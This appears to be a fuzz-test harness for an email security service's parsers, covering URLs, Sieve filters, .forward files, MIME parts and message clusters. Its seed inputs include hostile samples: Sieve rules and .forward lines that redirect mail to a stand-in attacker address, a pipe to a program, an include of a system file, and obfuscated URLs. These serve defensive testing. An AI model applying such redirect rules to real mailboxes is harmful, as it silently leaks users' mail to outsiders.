"""What holds for every input that a parser of the email service may be given, however hostile: a function a parser.

Each takes any bytes and returns if all is well. `SEEDS` are inputs to begin with.
"""

import hashlib
from collections.abc import Callable, Mapping, Sequence
from contextlib import suppress

import protovalidate
from quell.remediation.v1 import target_pb2

from mail_tree import CAMPAIGN
from quell_email.domain import dotforward, selection
from quell_email.domain.attachments import CutError, Wanted, file_names
from quell_email.domain.blocklist import Blocklist
from quell_email.domain.cutting import cutting
from quell_email.domain.errors import PatternInvalidError, UrlInvalidError
from quell_email.domain.forwards import Judged
from quell_email.domain.headers import UnreadableError
from quell_email.domain.mime import Part, header_block, parts
from quell_email.domain.patterns import pattern_of
from quell_email.domain.splice import inverse, replaced, restored
from quell_email.domain.urls import canonical
from quell_email.domain.wrappers import unwrapped
from quell_email.links.parts import read_links
from quell_email.parsing.reading import read_body, read_headers
from quell_email.sieve import disarming
from quell_executor.effect import RefusedError

DOMAINS = frozenset({"example.org"})
READERS = (ValueError, LookupError, ArithmeticError, AttributeError, TypeError)
"""What readers of the standard library raise on hostile mail; the child takes it for unparsable."""


def url(data: bytes) -> None:
    """Hold a canonical form against its own, and a pattern against its own and what it was made of."""
    text = data.decode("utf-8", "replace")
    with suppress(UrlInvalidError):
        found = canonical(text)
        again = canonical(f"http://{found}")
        assert (again.host, again.target) == (found.host, found.target), ascii((found, again))
        assert found in unwrapped(text)
        if text.startswith(("http:", "https:")) and "*" not in text:
            with suppress(PatternInvalidError):
                blocked = Blocklist()
                blocked.add(pattern_of(text))
                assert blocked.match(found), ascii(found)
    with suppress(PatternInvalidError):
        pattern = pattern_of(text)
        assert pattern_of(str(pattern)) == pattern, ascii(pattern)


def sieve(data: bytes) -> None:
    """See that what was disarmed sends nothing outside, and that what sends nothing outside is left as it is."""
    _disarmed(data, lambda script: disarming.judge(script, DOMAINS, instead=disarming.stand_in([script])))


def forward(data: bytes) -> None:
    """See the same of a `.forward`."""
    _disarmed(data, lambda script: dotforward.judge(script, DOMAINS))


def _disarmed(data: bytes, judge: Callable[[bytes], Judged]) -> None:
    found = judge(data)
    if not found.outside and not found.whole:
        assert found.disarmed == data, found
    again = judge(found.disarmed)
    assert not again.outside, (found, again)
    assert not again.whole, (found, again)
    assert again.disarmed == found.disarmed


def mime(data: bytes) -> None:
    """See that parts lie within what holds them, and that each is cut out exactly or refused."""
    with suppress(UnreadableError, *READERS):
        read_headers(header_block(data))
    with suppress(UnreadableError, *READERS):
        read_body(data)
    with suppress(UnreadableError, *READERS):
        read_links(data)
    found: list[Part] = []
    with suppress(UnreadableError):
        found = list(parts(data))
    for part in found[:3]:
        assert 0 <= part.head <= part.start <= part.end <= len(part.raw)
        _cut(data, Wanted(part=part.number))
        _cut(data, Wanted(sha256=hashlib.sha256(part.content).hexdigest()))
        with suppress(UnreadableError, *READERS):
            for name in file_names(part)[:1]:
                _cut(data, Wanted(file_name=name))


def _cut(raw: bytes, wanted: Wanted) -> None:
    with suppress(CutError, UnreadableError, *READERS):
        pieces = cutting(raw, wanted).pieces
        new = replaced(raw, pieces)
        assert restored(new, inverse(raw, pieces), hashlib.sha256(raw).hexdigest()) == raw


def cluster(data: bytes) -> None:
    """See that what the contract lets through is understood or refused, with the same key however it is read.

    The input is a field of `FIELDS` a line.
    """
    values = zip(FIELDS, data.decode("utf-8", "ignore").split("\n"), strict=False)
    found = target_pb2.MessageCluster(**{name: value for name, value in values if value})  # type: ignore[arg-type]
    selector = target_pb2.MessageSelector(cluster=found)
    if protovalidate.collect_violations(selector):
        return
    with suppress(RefusedError):
        asked = selection.names(selector)
        assert selection.names(target_pb2.MessageSelector.FromString(selector.SerializeToString())) == asked
        (criterion,) = selection.criteria(selector)
        assert criterion == selection.criteria(selector)[0]
        selection.again(selector)


FIELDS = [
    "cluster_by",
    "cluster_by_value",
    "subject",
    "sender",
    "sender_domain",
    "sender_ip",
    "content_type",
    "body_fingerprint",
    "url",
    "attachment_sha256",
]
TARGETS: Mapping[str, Callable[[bytes], None]] = {
    "url": url,
    "sieve": sieve,
    "forward": forward,
    "mime": mime,
    "cluster": cluster,
}
SEEDS: Mapping[str, Sequence[bytes]] = {
    "url": [
        b"https://EVIL.example./a/../%2562?x=1&y#z",
        b"http://0x7f.1/\\..\\b",
        b"http://user@[::ffff:1.2.3.4]:81/;p",
        b"*.evil.example/a/*",
        b"~evil.example~",
        b"https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.example%2F",
        b"https://urldefense.com/v3/__https://evil.example/a*b__;Kw!!x!y$",
        "http://\uff45vil\u3002example/\xfc".encode(),
        b"http://xn--bcher-kva.example/%",
        b"ftp://evil.example:80/",
    ],
    "sieve": [
        b'require ["copy", "variables"];\nset "to" "x@evil.example";\nredirect :copy "${to}";\n',
        b'if header :contains "subject" ["a", "b"] { redirect "x@evil.example"; stop; } else { keep; }\n',
        b'# rule:[a]\nif allof(not exists "x", size :over 1K) { fileinto "y"; redirect "me@example.org"; }',
        b'require "include"; include :personal "other"; /* x */ text:\nhello\n..\n.\n',
        b'require ["enotify"]; notify "mailto:x@evil.example";',
        b'require ["foreverypart","extracttext"]; foreverypart { break; }',
    ],
    "forward": [
        b"\\ann, x@evil.example\n",
        b'# note\n"|/usr/bin/vacation ann"\n/var/mail/ann\n:include:/etc/x\n',
        b'"a b"@evil.example, me@example.org\n\n',
    ],
    "mime": [
        CAMPAIGN,
        b"Content-Type: multipart/digest; boundary=\"a'b\"\n\n--a'b\n\nSubject: x\n\ny\n--a'b--\n",
        b"Content-Type: message/rfc822\nContent-Transfer-Encoding: base64\n\nU3ViamVjdDogeAoKaGlkZGVu",
        b"Content-Type: (x) multipart/mixed; boundary*0=b; boundary*1=c (y)\r\n\r\n--bc\r\n\r\nx\r\n--bc--",
        b'Content-Disposition: a; filename="=?utf-8?b?4oKs?="; filename*=utf-8\'\'%e2%82%ac\n\n<a href="http://a.b/">',
    ],
    "cluster": [
        b"\n\nRe: Fwd: x  y\n\nevil.example\n\ntext/html",
        b"Subject;SenderDomain;ContentType\na;b.example;c/d",
        b"BodyFingerprint;SenderIp;ContentType\nminhash1:aa;1.2.3.4;c/d",
        b"\n\n\na@b.example\n\n::1\n\n\nhttps://evil.example/\n" + b"0" * 64,
    ],
}
